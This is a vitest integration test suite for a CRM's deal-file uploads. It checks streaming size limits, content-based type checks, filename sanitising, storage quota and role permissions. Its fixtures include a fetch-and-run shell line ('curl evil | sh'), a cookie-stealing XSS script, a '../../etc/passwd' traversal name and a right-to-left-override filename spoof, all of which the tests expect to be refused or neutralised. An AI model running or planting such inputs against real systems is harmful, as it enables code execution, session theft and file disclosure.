import { createHash, randomBytes } from 'node:crypto';
import { and, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, describe, expect, it } from 'vitest';
import { files, fileStorageUsage, pipelines } from '../../../src/lib/server/db/schema';
import * as planOps from '../../../src/lib/server/orgs/plans.repo';
import { storageQuotaBytes } from '../../../src/lib/server/orgs/plans';
import { startApp } from '../../support/app-server';
import { addMember, createOrg, createUser } from '../../support/factories';
import { cookieFor } from '../security/http';
import { createDealAs, rawUpload, setSettings, until } from './support';

// Files attached to deals (issue 4) against the production build: limits enforced while the
// body streams, types decided by content, names stored as given and sent safely, the storage
// quota, and the boards' visibility rule applied to every file request.

const MiB = 1024 * 1024;
// A small limit keeps the streams short; the code path is the one a 25 MiB limit takes.
const LIMIT_MB = 3;
const app = await startApp({ env: { CHOT_MAX_UPLOAD_MB: String(LIMIT_MB) } });
afterAll(() => app.stop());

const owner = await createUser(app.db, { name: 'Chủ Doanh Nghiệp' });
const org = await createOrg(app.db, { ownerId: owner.id });
const manager = await createUser(app.db, { name: 'Trần Quốc Huy' });
const nam = await createUser(app.db, { name: 'Lê Văn Nam' });
const ha = await createUser(app.db, { name: 'Phạm Thu Hà' });
const accountant = await createUser(app.db, { name: 'Võ Minh Châu' });
const outsider = await createUser(app.db, { name: 'Người Ngoài' });
await createOrg(app.db, { ownerId: outsider.id, name: 'Đơn vị khác' });
await addMember(app.db, { orgId: org.id, userId: manager.id, role: 'manager' });
await addMember(app.db, { orgId: org.id, userId: nam.id, role: 'sales' });
await addMember(app.db, { orgId: org.id, userId: ha.id, role: 'sales' });
await addMember(app.db, { orgId: org.id, userId: accountant.id, role: 'accountant' });
const [pipeline] = await app.db.select().from(pipelines).where(eq(pipelines.orgId, org.id));
const pipelineId = pipeline!.id;
// "Own only": reps see only their own deals in this pipeline.
await setSettings(app, { ownerId: owner.id, pipelineId, visibility: 'own', editing: 'own' });
const namsDeal = await createDealAs(app, { userId: nam.id, pipelineId, title: 'Máy lạnh Quận 7' });
const hasDeal = await createDealAs(app, {
	userId: ha.id,
	pipelineId,
	title: 'Kho lạnh Bình Dương'
});

const cookie = {
	owner: await cookieFor(app, owner.id),
	manager: await cookieFor(app, manager.id),
	nam: await cookieFor(app, nam.id),
	ha: await cookieFor(app, ha.id),
	accountant: await cookieFor(app, accountant.id),
	outsider: await cookieFor(app, outsider.id)
};

const filesPath = (dealId: string) => `/o/${org.id}/deals/${dealId}/files`;
const uploadPath = (dealId: string, name: string, note?: string) =>
	`${filesPath(dealId)}?${new URLSearchParams(note ? { name, note } : { name })}`;

function pdf(size = 2048) {
	const body = Buffer.alloc(size, 0x20);
	body.write('%PDF-1.4\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog >>\nendobj\n');
	return body;
}

async function upload(
	who: keyof typeof cookie,
	{ dealId, name, body, note }: { dealId: string; name: string; body: Uint8Array; note?: string }
) {
	const res = await app.fetch(uploadPath(dealId, name, note), {
		method: 'POST',
		headers: {
			cookie: cookie[who],
			'content-type': 'application/octet-stream',
			accept: 'application/json'
		},
		body: new Uint8Array(body)
	});
	const json = (await res.json().catch(() => null)) as {
		file?: { id: string; name: string; size: number; hasThumbnail: boolean };
		sha256?: string;
		code?: string;
		message?: string;
	} | null;
	return { status: res.status, json, headers: res.headers };
}

const get = (who: keyof typeof cookie, path: string) =>
	app.fetch(path, { headers: { cookie: cookie[who], accept: 'application/json' } });

const usage = async () =>
	(
		await app.db
			.select({ bytes: fileStorageUsage.bytes })
			.from(fileStorageUsage)
			.where(eq(fileStorageUsage.orgId, org.id))
	)[0]?.bytes ?? 0;

const rowsOf = (dealId: string) =>
	app.db
		.select()
		.from(files)
		.where(and(eq(files.orgId, org.id), eq(files.dealId, dealId)));

/** The two names of a Content-Disposition header, the UTF-8 one decoded. */
function dispositionNames(header: string | null) {
	const m = /^(inline|attachment); filename="([^"]*)"; filename\*=UTF-8''(\S+)$/.exec(header ?? '');
	if (!m) throw new Error(`unexpected Content-Disposition: ${header}`);
	return { kind: m[1], ascii: m[2]!, utf8: decodeURIComponent(m[3]!) };
}

describe('size limit', () => {
	it('answers 413 from the Content-Length alone, before the body is read, and closes', async () => {
		const before = await usage();
		const r = await rawUpload(app, {
			path: uploadPath(namsDeal, 'ban-ve-lon.pdf'),
			cookie: cookie.nam,
			head: pdf(64),
			sendBytes: 64,
			declaredLength: (LIMIT_MB + 1) * MiB
		});
		expect(r.status).toBe(413);
		expect(r.response).toContain('lớn hơn 3 MB');
		// Answered having seen 64 of the 4 MiB it announced; the server then hangs up.
		expect(r.sentBeforeAnswer).toBe(64);
		expect(r.closedByServer).toBe(true);
		expect(await usage()).toBe(before);
	});

	it('stops a streamed body with 413 as soon as it passes the limit', async () => {
		const before = (await rowsOf(namsDeal)).length;
		const r = await rawUpload(app, {
			path: uploadPath(namsDeal, 'quay-phim.pdf'),
			cookie: cookie.nam,
			head: pdf(64),
			sendBytes: 100 * MiB
		});
		expect(r.status).toBe(413);
		// Answered past the limit, long before the 100 MiB the client meant to send (what was
		// "sent" by then includes what the two kernels' socket buffers held, a few MiB), and the
		// server hung up rather than reading the rest.
		expect(r.sentBeforeAnswer).toBeGreaterThan(LIMIT_MB * MiB);
		expect(r.sentBeforeAnswer).toBeLessThan(24 * MiB);
		expect(r.closedByServer).toBe(true);
		// Nothing of it stays: no row, no pieces, no storage counted.
		expect(await until(async () => (await rowsOf(namsDeal)).length === before)).toBe(true);
	});

	it('keeps the 413 for a client that reads it late: no reset while it is still sending', async () => {
		// The client sends all of its 8 MiB and reads only 300 ms later. Had the server closed its
		// socket with those bytes unread, its kernel would answer them with a reset, and the
		// client's kernel would throw the unread 413 away (server/http.ts, lingering close).
		const r = await rawUpload(app, {
			path: uploadPath(namsDeal, 'doc-cham.pdf'),
			cookie: cookie.nam,
			head: pdf(64),
			sendBytes: 8 * MiB,
			readAfterMs: 300
		});
		expect(r.status).toBe(413);
		expect(r.response).toContain('lớn hơn 3 MB');
		expect(r.closedByServer).toBe(true);
	});

	it('accepts a file of exactly the limit', async () => {
		const res = await upload('nam', {
			dealId: namsDeal,
			name: 'dung-gioi-han.pdf',
			body: pdf(LIMIT_MB * MiB)
		});
		expect(res.status).toBe(201);
		expect(res.json?.file?.size).toBe(LIMIT_MB * MiB);
	});
});

describe('type checked by content', () => {
	it('refuses a .pdf that is really an HTML page, and stores nothing', async () => {
		const before = await usage();
		const res = await upload('nam', {
			dealId: namsDeal,
			name: 'bao-gia.pdf',
			body: Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script>')
		});
		expect(res.status).toBe(415);
		expect(res.json).toMatchObject({ code: 'html' });
		expect(res.json?.message).toContain('trang web');
		expect(await usage()).toBe(before);
		expect((await rowsOf(namsDeal)).filter((f) => f.name === 'bao-gia.pdf')).toEqual([]);
	});

	it('refuses a .pdf that is really an executable (ELF, Windows PE, a script)', async () => {
		const elf = Buffer.concat([
			Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
			randomBytes(4096)
		]);
		const pe = Buffer.alloc(4096);
		pe.write('MZ', 0);
		pe.writeUInt32LE(128, 0x3c);
		pe.write('PE\0\0', 128, 'latin1');
		for (const [body, code] of [
			[elf, 'executable'],
			[pe, 'executable'],
			[Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'script']
		] as const) {
			const res = await upload('nam', { dealId: namsDeal, name: 'hop-dong.pdf', body });
			expect(res.status, code).toBe(415);
			expect(res.json?.code).toBe(code);
		}
		expect((await rowsOf(namsDeal)).filter((f) => f.name === 'hop-dong.pdf')).toEqual([]);
	});

	it('reads a refused body to its end, so the browser gets the message and the connection lives', async () => {
		const res = await upload('nam', {
			dealId: namsDeal,
			name: 'trang.pdf',
			body: Buffer.concat([Buffer.from('<html>'), Buffer.alloc(2 * MiB, 0x20)])
		});
		expect(res.status).toBe(415);
		expect(res.headers.get('connection')).not.toBe('close');
	});
});

describe('names', () => {
	it('stores ../../etc/passwd.pdf exactly and sends it under a name that is no path', async () => {
		const name = '../../etc/passwd.pdf';
		const res = await upload('nam', { dealId: namsDeal, name, body: pdf() });
		expect(res.status).toBe(201);
		const [row] = await app.db.select().from(files).where(eq(files.id, res.json!.file!.id));
		expect(row!.name).toBe(name);

		const list = (await (await get('nam', filesPath(namsDeal))).json()) as {
			files: { id: string; name: string }[];
		};
		expect(list.files.find((f) => f.id === row!.id)?.name).toBe(name);

		const dl = await get('nam', `/o/${org.id}/files/${row!.id}`);
		expect(dl.status).toBe(200);
		const names = dispositionNames(dl.headers.get('content-disposition'));
		expect(names.kind).toBe('attachment');
		for (const sent of [names.ascii, names.utf8]) {
			expect(sent).not.toMatch(/[/\\]|\.\./);
			expect(sent.endsWith('passwd.pdf')).toBe(true);
		}
		await dl.body?.cancel();
	});

	it('stores a right-to-left override exactly and never sends it', async () => {
		// Reads as "hợp-đồng-fdp.png" on screen; it is a PDF named …gnp.pdf.
		const name = 'hợp-đồng-\u202Egnp.pdf';
		const res = await upload('nam', { dealId: namsDeal, name, body: pdf() });
		expect(res.status).toBe(201);
		const [row] = await app.db.select().from(files).where(eq(files.id, res.json!.file!.id));
		expect(row!.name).toBe(name);

		const dl = await get('nam', `/o/${org.id}/files/${row!.id}`);
		const names = dispositionNames(dl.headers.get('content-disposition'));
		expect(names.utf8).toBe('hợp-đồng-_gnp.pdf');
		expect(names.ascii).toBe('hop-dong-_gnp.pdf');
		expect(dl.headers.get('x-content-type-options')).toBe('nosniff');
		await dl.body?.cancel();
	});
});

describe('content', () => {
	it('downloads exactly the bytes uploaded, across several stored pieces', async () => {
		const body = Buffer.concat([pdf(64), randomBytes(Math.round(2.5 * MiB))]);
		const sha = createHash('sha256').update(body).digest('hex');
		const res = await upload('nam', {
			dealId: namsDeal,
			name: 'Bản vẽ thi công.pdf',
			body,
			note: 'Bản vẽ lần 2, khách đã duyệt'
		});
		expect(res.status).toBe(201);
		expect(res.json?.sha256).toBe(sha);

		const dl = await get('nam', `/o/${org.id}/files/${res.json!.file!.id}`);
		expect(dl.status).toBe(200);
		expect(dl.headers.get('content-type')).toBe('application/pdf');
		expect(dl.headers.get('content-length')).toBe(String(body.length));
		const got = Buffer.from(await dl.arrayBuffer());
		expect(createHash('sha256').update(got).digest('hex')).toBe(sha);
	});

	it('shows images and PDFs inline only as a sandboxed preview; other files are attachments', async () => {
		const text = await upload('nam', {
			dealId: namsDeal,
			name: 'ghi-chu.txt',
			body: Buffer.from('Khách hẹn gọi lại thứ Hai.\n')
		});
		const doc = await upload('nam', { dealId: namsDeal, name: 'xem.pdf', body: pdf() });
		const preview = await get('nam', `/o/${org.id}/files/${doc.json!.file!.id}?preview`);
		expect(preview.headers.get('content-disposition')).toMatch(/^inline;/);
		expect(preview.headers.get('content-security-policy')).toMatch(/sandbox/);
		await preview.body?.cancel();
		const download = await get('nam', `/o/${org.id}/files/${doc.json!.file!.id}`);
		expect(download.headers.get('content-disposition')).toMatch(/^attachment;/);
		await download.body?.cancel();
		const asText = await get('nam', `/o/${org.id}/files/${text.json!.file!.id}?preview`);
		expect(asText.headers.get('content-disposition')).toMatch(/^attachment;/);
		expect(asText.headers.get('content-type')).toBe('text/plain; charset=utf-8');
		await asText.body?.cancel();
	});

	it('makes a 320 px WebP thumbnail for an image', async () => {
		const png = await sharp({
			create: { width: 1200, height: 800, channels: 3, background: { r: 20, g: 150, b: 130 } }
		})
			.png()
			.toBuffer();
		const res = await upload('nam', { dealId: namsDeal, name: 'cong-trinh.png', body: png });
		expect(res.status).toBe(201);
		const url = `/o/${org.id}/files/${res.json!.file!.id}/thumbnail`;
		let thumb: Response | null = null;
		expect(
			await until(async () => {
				const r = await get('nam', url);
				if (r.status === 200) thumb = r;
				else await r.body?.cancel();
				return r.status === 200;
			})
		).toBe(true);
		expect(thumb!.headers.get('content-type')).toBe('image/webp');
		const meta = await sharp(Buffer.from(await thumb!.arrayBuffer())).metadata();
		expect(meta).toMatchObject({ format: 'webp', width: 320, height: 213 });
		// The list says so, and Hà (who may not see the deal) gets nothing.
		const list = (await (await get('nam', filesPath(namsDeal))).json()) as {
			files: { id: string; hasThumbnail: boolean }[];
		};
		expect(list.files.find((f) => f.id === res.json!.file!.id)?.hasThumbnail).toBe(true);
		expect((await get('ha', url)).status).toBe(404);
	});
});

describe('storage quota', () => {
	it('refuses an upload that would pass the plan’s quota, in Vietnamese, and keeps the count exact', async () => {
		await planOps.setPlan(app.db, { orgId: org.id, plan: 'goi1' });
		const quota = storageQuotaBytes.goi1!;
		const real = await usage();
		// As if the organisation had stored all but 1 KiB of its 1 GiB.
		await app.db
			.update(fileStorageUsage)
			.set({ bytes: quota - 1024 })
			.where(eq(fileStorageUsage.orgId, org.id));
		try {
			const res = await upload('nam', { dealId: namsDeal, name: 'them.pdf', body: pdf(4096) });
			expect(res.status).toBe(413);
			expect(res.json?.code).toBe('quota');
			expect(res.json?.message).toContain('dung lượng');
			expect(res.json?.message).toContain('1 GB');
			// Without a Content-Length the body is read, then refused when it is counted.
			const chunked = await rawUpload(app, {
				path: uploadPath(namsDeal, 'them-nua.pdf'),
				cookie: cookie.nam,
				head: pdf(64),
				sendBytes: 4096
			});
			expect(chunked.status).toBe(413);
			expect(chunked.response).toContain('"code":"quota"');
			// A file that fits still goes in.
			const small = await upload('nam', {
				dealId: namsDeal,
				name: 'nho.txt',
				body: Buffer.from('ok')
			});
			expect(small.status).toBe(201);
			expect(await usage()).toBe(quota - 1024 + 2);
			expect(
				(await rowsOf(namsDeal)).filter((f) => f.name === 'them.pdf' || f.name === 'them-nua.pdf')
			).toEqual([]);
		} finally {
			await app.db
				.update(fileStorageUsage)
				.set({ bytes: real })
				.where(eq(fileStorageUsage.orgId, org.id));
			await planOps.setPlan(app.db, { orgId: org.id, plan: 'goi3' });
		}
	});

	it('counts what is stored and gives it back on delete', async () => {
		const before = await usage();
		const res = await upload('nam', { dealId: namsDeal, name: 'tam.pdf', body: pdf(10_000) });
		expect(await usage()).toBe(before + 10_000);
		const del = await app.fetch(`/o/${org.id}/files/${res.json!.file!.id}`, {
			method: 'DELETE',
			headers: { cookie: cookie.nam }
		});
		expect(del.status).toBe(204);
		expect(await usage()).toBe(before);
		expect((await get('nam', `/o/${org.id}/files/${res.json!.file!.id}`)).status).toBe(404);
		// The row stays as the record of who removed what.
		const [row] = await app.db.select().from(files).where(eq(files.id, res.json!.file!.id));
		expect(row).toMatchObject({ name: 'tam.pdf', deletedBy: nam.id });
	});
});

const hasFile = await upload('ha', { dealId: hasDeal, name: 'Hợp đồng kho lạnh.pdf', body: pdf() });
const fileUrl = `/o/${org.id}/files/${hasFile.json!.file!.id}`;

describe('permissions', () => {
	it('lets Hà attach to her own deal', () => {
		expect(hasFile.status).toBe(201);
	});

	it('in an own-only pipeline, another rep gets 404 for the file, its list and its deal', async () => {
		expect((await get('nam', fileUrl)).status).toBe(404);
		expect((await get('nam', `${fileUrl}?preview`)).status).toBe(404);
		expect((await get('nam', filesPath(hasDeal))).status).toBe(404);
		const attach = await upload('nam', { dealId: hasDeal, name: 'chen.pdf', body: pdf() });
		expect(attach.status).toBe(404);
		const del = await app.fetch(fileUrl, { method: 'DELETE', headers: { cookie: cookie.nam } });
		expect(del.status).toBe(404);
	});

	it('lets the manager and the accountant download it', async () => {
		for (const who of ['manager', 'accountant', 'owner'] as const) {
			const res = await get(who, fileUrl);
			expect(res.status, who).toBe(200);
			await res.body?.cancel();
		}
	});

	it('answers 404 to a non-member for the file, the list and an upload', async () => {
		expect((await get('outsider', fileUrl)).status).toBe(404);
		expect((await get('outsider', filesPath(hasDeal))).status).toBe(404);
		expect((await upload('outsider', { dealId: hasDeal, name: 'x.pdf', body: pdf() })).status).toBe(
			404
		);
	});

	it('keeps accountants read-only: no upload, no delete', async () => {
		const res = await upload('accountant', { dealId: hasDeal, name: 'ke-toan.pdf', body: pdf() });
		expect(res.status).toBe(403);
		expect(res.json?.message).toContain('không có quyền');
		const del = await app.fetch(fileUrl, {
			method: 'DELETE',
			headers: { cookie: cookie.accountant }
		});
		expect(del.status).toBe(403);
		const list = (await (await get('accountant', filesPath(hasDeal))).json()) as {
			canEdit: boolean;
			files: { canDelete: boolean }[];
		};
		expect(list.canEdit).toBe(false);
		expect(list.files.every((f) => !f.canDelete)).toBe(true);
	});

	it('answers 404 for unknown ids alike', async () => {
		const unknown = '01890000-0000-7000-8000-000000000000';
		expect((await get('manager', `/o/${org.id}/files/${unknown}`)).status).toBe(404);
		expect((await get('manager', filesPath(unknown))).status).toBe(404);
	});

	it('lets another rep read but not attach where everyone sees and only owners edit', async () => {
		await setSettings(app, { ownerId: owner.id, pipelineId, visibility: 'all', editing: 'own' });
		try {
			const res = await get('nam', fileUrl);
			expect(res.status).toBe(200);
			await res.body?.cancel();
			const attach = await upload('nam', { dealId: hasDeal, name: 'chen.pdf', body: pdf() });
			expect(attach.status).toBe(403);
			await setSettings(app, { ownerId: owner.id, pipelineId, visibility: 'all', editing: 'all' });
			const allowed = await upload('nam', { dealId: hasDeal, name: 'cung-sua.pdf', body: pdf() });
			expect(allowed.status).toBe(201);
		} finally {
			await setSettings(app, { ownerId: owner.id, pipelineId, visibility: 'own', editing: 'own' });
		}
	});
});
